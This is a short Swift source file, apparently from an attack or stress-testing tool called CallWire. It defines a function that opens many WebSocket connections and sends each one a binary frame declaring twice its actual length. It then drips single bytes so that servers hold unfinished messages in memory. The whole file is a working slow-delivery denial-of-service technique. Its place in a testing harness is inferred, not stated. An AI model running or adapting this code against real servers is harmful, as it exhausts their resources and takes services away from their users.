import CallWire

extension AttackContext {
  /// Whoever reads a message whole before looking at it keeps what has come.
  func sendHalfFrames() {
    let half = [UInt8](repeating: 0x68, count: 60_000)
    let start = AttackBytes.frame(.binary, half, declared: 2 * half.count)
    let fleet = keepWebSockets(
      subprotocol: { _ in DeviceCodec.protobuf.subprotocol },
      opened: { [self] socket, _ in
        if socket.write(start) { account.attempts += 1 }
      })
    paceAttack(fleet) { socket, _ in socket.write([0x68]) }
  }
}
